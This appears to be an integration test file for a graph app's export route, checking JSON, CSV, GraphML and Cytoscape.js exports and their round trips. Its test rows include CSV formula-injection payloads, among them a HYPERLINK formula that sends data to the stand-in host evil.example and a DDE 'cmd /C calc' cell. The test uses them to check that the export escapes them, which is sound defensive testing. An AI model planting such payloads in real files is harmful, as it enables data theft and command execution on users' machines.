/**
 * Exports through the real route handler, against the shared test database, which it empties on the way and
 * restores after (tests/integration/shared-neo4j.ts): the JSON export round-trips through an empty database to the same
 * bytes, the CSV does too, GraphML is read by networkx (Debian's python3-networkx, /usr/bin/python3) with the right
 * counts and attributes, and Cytoscape.js JSON has the graph's elements.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Driver } from 'neo4j-driver';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GET as exportRoute } from '@/app/api/export/route';
import { GET as graphRoute } from '@/app/api/graph/route';
import { viewScope } from '@/lib/export';
import { importFile } from '@/lib/import';
import { closeDriver, createDriver, getDriver, isNeo4jUnavailable } from '@/lib/neo4j';
import { TEST_PORTS } from '../ports';
import { restoreSeed } from './shared-neo4j';

/** The file imported first is of the older shape, without quote_kind: its quotes are stored as reported. */
const HEADER = 'actor,actor_kind,event,event_date,stance,quote,source_title,source_url,source_date';
const EXPORT_HEADER =
  'actor,actor_kind,event,event_date,stance,stated_on,quote,quote_kind,source_title,source_url,source_date';
const ROWS = [
  'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,"France voted in favour, saying ""aggression"" must stop",UN voting record,https://example.org/vote/es-11-1,2022-03-02',
  'Zoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,"Two lines:\nwe are worried",Her blog,https://example.org/blog/zoe,2022-03',
  'Zoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,A second quote <with> & markup,Her blog,https://example.org/blog/zoe,2022-03',
  'russia,state,UN Resolution ES-11/1,2022-03-02,support,Russia voted against,UN voting record,https://example.org/vote/es-11-1,2022-03-02',
  // Cells a spreadsheet would run as formulas: the export writes them as text, the import takes them back.
  'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",UN voting record,https://example.org/vote/es-11-1,2022-03-02',
  'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,-2+3 in favour,UN voting record,https://example.org/vote/es-11-1,2022-03-02',
  'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,@SUM(A1:A9),UN voting record,https://example.org/vote/es-11-1,2022-03-02',
  "russia,state,UN Resolution ES-11/1,2022-03-02,support,+cmd|' /C calc'!A0,UN voting record,https://example.org/vote/es-11-1,2022-03-02",
];
let driver: Driver;
let dir: string;

beforeAll(async () => {
  driver = getDriver();
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stancegraph-export-'));
  const csv = path.join(dir, 'input.csv');
  fs.writeFileSync(csv, `${[HEADER, ...ROWS].join('\n')}\n`);
  const report = await importFile({ driver }, { file: csv });
  expect(report.invalidRows).toBe(0);
});

afterAll(async () => {
  if (driver) await restoreSeed(driver);
  await closeDriver();
  fs.rmSync(dir, { recursive: true, force: true });
});

async function download(query: string): Promise<{ status: number; headers: Headers; text: string }> {
  const response = await exportRoute(new Request(`http://127.0.0.1/api/export${query}`));
  return { status: response.status, headers: response.headers, text: await response.text() };
}

function save(name: string, text: string): string {
  const file = path.join(dir, name);
  fs.writeFileSync(file, text);
  return file;
}

async function wipe(): Promise<void> {
  await driver.executeQuery('MATCH (n) DETACH DELETE n');
}

async function count(cypher: string): Promise<number> {
  const { records } = await driver.executeQuery(`${cypher} RETURN count(*) AS n`);
  return Number(records[0].get('n'));
}

describe('GET /api/export', () => {
  let json1: string;
  let csv1: string;

  it('streams the whole graph as JSON, CSV, GraphML and Cytoscape.js JSON, as downloads', async () => {
    const json = await download('?format=json');
    expect(json.status).toBe(200);
    expect(json.headers.get('content-type')).toMatch(/application\/json/);
    expect(json.headers.get('content-disposition')).toMatch(
      /^attachment; filename="stancegraph-graph-\d{4}-\d{2}-\d{2}\.json"$/,
    );
    json1 = json.text;
    const doc = JSON.parse(json1);
    expect(doc).toMatchObject({ format: 'stancegraph', version: 1 });
    expect(doc.actors).toHaveLength(17); // 15 of the seed, France, Zoë Ångström
    expect(doc.stances).toHaveLength(17); // 14 of the seed, 3 of the CSV
    expect(doc.relations).toHaveLength(11);
    expect(doc.sources.find((s: { id: string }) => s.id === 'russia-recognizes-taliban-article').text).toMatch(
      /^In a groundbreaking move, Russia/,
    );

    const csv = await download('?format=csv');
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    csv1 = csv.text;
    expect(csv1.split('\r\n')[0]).toBe(EXPORT_HEADER);
    expect(csv1).toContain('"France voted in favour, saying ""aggression"" must stop"');
    // Each stance stated on its source's date, which the file did not give.
    expect(csv1).toContain(',condemnation,2022-03-02,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",');
    expect(csv1).toContain(",condemnation,2022-03-02,'-2+3 in favour,");
    expect(csv1).toContain(",condemnation,2022-03-02,'@SUM(A1:A9),");
    expect(csv1).toContain(",support,2022-03-02,'+cmd|' /C calc'!A0,");
    // Actors are named (their ids follow from their names); the seed's events have hand-made ids that do not
    // follow from their titles, so the CSV names them by id, which an import matches again.
    expect(csv1).toContain('\r\nTaliban government,government,russia-recognizes-taliban,2025-07-03,support,2025-07,');
    expect(csv1).toContain(
      '\r\nZoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,2022-03,"Two lines:\nwe are worried",reported,',
    );
    // Whose words: the seed's own words of Muttaqi are direct, the reporter's sentence around them reported.
    expect(csv1).toContain(
      ',russia-recognizes-taliban,2025-07-03,support,2025-07,new phase of positive relations,direct,Russia Becomes First Country',
    );
    expect(csv1).toMatch(
      /\r\nFawzia Koofi,person,[^\r]*,condemnation,2025-07,"Fawzia Koofi, a former [^"]*",reported,/,
    );
    const koofi = doc.stances.find((s: { actor: string }) => s.actor === 'fawzia-koofi');
    expect(koofi.evidence.map((e: { kind: string }) => e.kind)).toEqual(['reported']);
    const muttaqi = doc.stances.find((s: { actor: string }) => s.actor === 'amir-khan-muttaqi');
    expect(muttaqi.evidence.map((e: { quote: string; kind: string }) => `${e.kind}: ${e.quote}`)).toEqual([
      expect.stringMatching(/^reported: Muttaqi characterized Russia’s recognition as a "new phase/),
      'direct: new phase of positive relations',
    ]);
    expect(doc.relations.every((r: { evidence?: { kind: string } }) => r.evidence?.kind === 'reported')).toBe(true);
  });

  it('JSON round trip: export, import into an empty database, export again: the same bytes', async () => {
    await wipe();
    expect(await count('MATCH (n)')).toBe(0);
    const report = await importFile({ driver }, { file: save('export.json', json1) });
    expect(report).toMatchObject({ invalidRows: 0, written: true });
    const json2 = (await download('?format=json')).text;
    expect(json2).toBe(json1);
    expect((await download('?format=csv')).text).toBe(csv1);
  });

  it('CSV round trip: export, import into an empty database, export again: the same bytes', async () => {
    await wipe();
    const report = await importFile({ driver }, { file: save('export.csv', csv1) });
    expect(report).toMatchObject({ invalidRows: 0, written: true, stances: { new: 17 } });
    expect((await download('?format=csv')).text).toBe(csv1);
    // Back to the full graph for the tests below.
    await wipe();
    await importFile({ driver }, { file: save('export.json', json1) });
  });

  it('GraphML opens in networkx with the right counts and stance and evidence as attributes', async () => {
    const graphml = await download('?format=graphml');
    expect(graphml.headers.get('content-type')).toMatch(/graphml/);
    const file = save('export.graphml', graphml.text);
    const script = `
import json, sys, networkx as nx
g = nx.read_graphml(sys.argv[1])
koofi = g.get_edge_data('fawzia-koofi', 'russia-recognizes-taliban')
koofi = koofi[next(iter(koofi))] if g.is_multigraph() else koofi
zoe = g.get_edge_data('zoe-angstrom', 'un-resolution-es-11-1')
zoe = zoe[next(iter(zoe))] if g.is_multigraph() else zoe
muttaqi = g.get_edge_data('amir-khan-muttaqi', 'russia-recognizes-taliban')
muttaqi = muttaqi[next(iter(muttaqi))] if g.is_multigraph() else muttaqi
leads = g.get_edge_data('vladimir-putin', 'russia')
leads = leads[next(iter(leads))] if g.is_multigraph() else leads
print(json.dumps({
  'directed': g.is_directed(), 'nodes': g.number_of_nodes(), 'edges': g.number_of_edges(),
  'stance_edges': sum(1 for _, _, d in g.edges(data=True) if d.get('type') == 'STANCE'),
  'koofi_node': g.nodes['fawzia-koofi'], 'koofi': koofi, 'zoe': zoe, 'muttaqi': muttaqi, 'leads': leads,
}))`;
    const result = spawnSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' });
    expect(result.stderr).toBe('');
    const read = JSON.parse(result.stdout);
    expect(read).toMatchObject({ directed: true, nodes: 17 + 6, edges: 17 + 11, stance_edges: 17 });
    expect(read.koofi_node).toMatchObject({ label: 'Fawzia Koofi', type: 'actor', kind: 'person' });
    expect(read.koofi).toMatchObject({
      type: 'STANCE',
      stance: 'condemnation',
      evidence_count: 1,
      quote_kind: 'reported',
      source_title: 'Russia Becomes First Country to Recognize Taliban Government',
      source_date: '2025-07',
    });
    expect(read.koofi.quote).toContain('condemned Russia’s decision, warning that it could not foster peace');
    // Quotes in the order the imported file gave them.
    expect(read.zoe).toMatchObject({
      stance: 'caution',
      evidence_count: 2,
      quotes: 'Two lines:\nwe are worried\nA second quote <with> & markup',
    });
    expect(JSON.parse(read.zoe.evidence)).toHaveLength(2);
    expect(read.muttaqi).toMatchObject({ evidence_count: 2, quote_kind: 'reported', quote_kinds: 'reported direct' });
    expect(JSON.parse(read.muttaqi.evidence)[1]).toMatchObject({
      quote: 'new phase of positive relations',
      kind: 'direct',
    });
    expect(read.leads).toMatchObject({ type: 'LEADS', quote: 'President Vladimir Putin', quote_kind: 'reported' });
  });

  it('Cytoscape.js JSON has every node and edge as elements with data', async () => {
    const cyjs = JSON.parse((await download('?format=cyjs')).text);
    expect(cyjs.elements.nodes).toHaveLength(23);
    expect(cyjs.elements.edges).toHaveLength(28);
    expect(cyjs.elements.edges).toContainEqual({
      data: expect.objectContaining({ source: 'russia', target: 'taliban-government', type: 'RECOGNIZES' }),
    });
    const putin = cyjs.elements.edges.find(
      (e: { data: { id: string } }) => e.data.id === 'vladimir-putin--russia-recognizes-taliban',
    );
    expect(putin.data.quote_kind).toBe('reported');
    expect(putin.data.evidence.map((e: { quote: string; kind: string }) => `${e.kind}: ${e.quote}`)).toContain(
      'direct: ally',
    );
    const ids = new Set(cyjs.elements.nodes.map((n: { data: { id: string } }) => n.data.id));
    for (const edge of cyjs.elements.edges) {
      expect(ids.has(edge.data.source) && ids.has(edge.data.target)).toBe(true);
    }
  });

  it('exports the current view (the filters of /api/graph), which imports on its own', async () => {
    const view = await download('?event=russia-recognizes-taliban&stance=condemnation&format=json');
    expect(view.status).toBe(200);
    expect(view.headers.get('content-disposition')).toMatch(/stancegraph-view-/);
    const doc = JSON.parse(view.text);
    expect(doc.stances.map((s: { actor: string }) => s.actor).sort()).toEqual([
      'afghan-womens-political-participation-network',
      'fawzia-koofi',
    ]);
    // The same actors and edges as /api/graph draws for these filters (context actors included).
    const graph = await (
      await graphRoute(new Request('http://127.0.0.1/api/graph?event=russia-recognizes-taliban&stance=condemnation'))
    ).json();
    const actorIds = graph.nodes
      .filter((n: { type: string }) => n.type === 'actor')
      .map((n: { id: string }) => n.id)
      .sort();
    expect(actorIds).toContain('china');
    expect(doc.actors.map((a: { id: string }) => a.id).sort()).toEqual(actorIds);
    expect(doc.stances).toHaveLength(graph.stances.length);
    expect(doc.relations).toHaveLength(graph.relations.length);
    expect(doc.sources.map((s: { id: string; about: string[] }) => [s.id, s.about])).toEqual([
      ['russia-recognizes-taliban-article', ['russia-recognizes-taliban']],
    ]);
    await wipe();
    const report = await importFile({ driver }, { file: save('view.json', view.text) });
    expect(report).toMatchObject({
      invalidRows: 0,
      written: true,
      stances: { new: 2 },
      relations: { new: doc.relations.length },
    });
    await wipe();
    await importFile({ driver }, { file: save('export.json', json1) });
  });

  it("reads a view from the database it is given, not the app's", async () => {
    const filters = { event: 'un-resolution-es-11-1', stances: [], kinds: [], depth: 1 };
    expect((await viewScope({ driver }, filters)).eventIds).toEqual(['un-resolution-es-11-1']);
    // A Db on a port nothing listens on: reading through the app's driver instead would succeed.
    const elsewhere = createDriver({
      uri: `bolt://127.0.0.1:${TEST_PORTS.nothing}`,
      username: undefined,
      password: undefined,
      database: undefined,
      local: true,
    });
    try {
      const failure = await viewScope({ driver: elsewhere }, filters).then(
        () => null,
        (error: unknown) => error,
      );
      expect(isNeo4jUnavailable(failure)).toBe(true);
    } finally {
      await elsewhere.close();
    }
  });

  it('400 for a bad format or scope, 404 for an unknown event', async () => {
    const format = await download('?format=xlsx');
    expect(format.status).toBe(400);
    expect(JSON.parse(format.text).error).toMatch(/format must be one of json, csv, graphml, cyjs/);
    expect((await download('?scope=all&event=russia-recognizes-taliban')).status).toBe(400);
    expect((await download('?event=no-such-event')).status).toBe(404);
  });
});
